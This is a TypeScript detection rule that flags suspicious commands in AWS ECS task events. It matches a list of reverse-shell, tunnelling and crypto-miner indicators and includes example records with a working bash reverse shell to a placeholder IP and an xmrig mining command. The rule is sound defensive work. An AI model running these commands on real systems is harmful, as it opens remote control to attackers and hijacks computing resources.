import { commandsWith } from "../commands-with.ts";
import { defineRule } from "../rule.ts";

export const hostileCommand = defineRule({
  id: "hostile-command",
  title: "A command looks like an attack",
  severity: "critical",
  why: "It opens a connection to take orders, hides what it does, or mines.",
  falsePositives: "Penetration tests; decoding of configuration by base64.",
  attack: ["T1609", "T1496.001", "T1610"],
  controls: ["SOC 2 CC6.8", "SOC 2 CC7.2", "ISO 27001 A.8.16"],
  next: "Stop the task and keep it from being started again; find out who registered it.",
  pattern: {
    detail: {
      eventSource: ["ecs.amazonaws.com"],
      eventName: [
        "RegisterTaskDefinition",
        "RegisterDaemonTaskDefinition",
        "RunTask",
        "StartTask",
        "ExecuteCommand",
      ],
      ...commandsWith([
        "/dev/tcp/",
        "nc -e",
        "ncat -e",
        "ngrok",
        "webhook.site",
        "xmrig",
        "stratum+tcp",
        "stratum+ssl",
        "base64 -d",
        "| sh",
        "| bash",
        "|sh",
        "|bash",
      ]),
    },
    tasktrail: {
      outcome: ["accepted"],
      noop: [false],
    },
  },
  examples: {
    fires: [
      {
        title: "a miner",
        record: {
          eventName: "RunTask",
          requestParameters: {
            cluster: "prod",
            taskDefinition: "x:1",
            overrides: {
              containerOverrides: [
                {
                  name: "app",
                  command: ["xmrig", "-o", "stratum+tcp://pool"],
                },
              ],
            },
          },
        },
      },
      {
        title: "a reverse shell",
        record: {
          eventName: "ExecuteCommand",
          requestParameters: {
            cluster: "prod",
            task: "0cc43cdb3bee44079c26c0e6ea5bee84",
            command: 'bash -c "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"',
          },
        },
      },
    ],
    silent: [
      {
        title: "an ordinary container",
        record: {
          eventName: "RegisterTaskDefinition",
          requestParameters: {
            family: "checkout",
            containerDefinitions: [
              {
                name: "app",
                image: "111122223333.dkr.ecr.eu-west-1.amazonaws.com/checkout:2.4.0",
              },
            ],
          },
        },
      },
      {
        title: "a shell alone",
        record: {
          eventName: "ExecuteCommand",
          requestParameters: {
            cluster: "prod",
            task: "0cc43cdb3bee44079c26c0e6ea5bee84",
            command: "/bin/sh",
          },
        },
      },
      {
        title: "refused",
        record: {
          eventName: "RunTask",
          errorCode: "AccessDenied",
          errorMessage: "User is not authorized to perform this action",
          requestParameters: {
            cluster: "prod",
            taskDefinition: "x:1",
            overrides: {
              containerOverrides: [
                {
                  name: "app",
                  command: ["xmrig"],
                },
              ],
            },
          },
        },
      },
    ],
  },
});
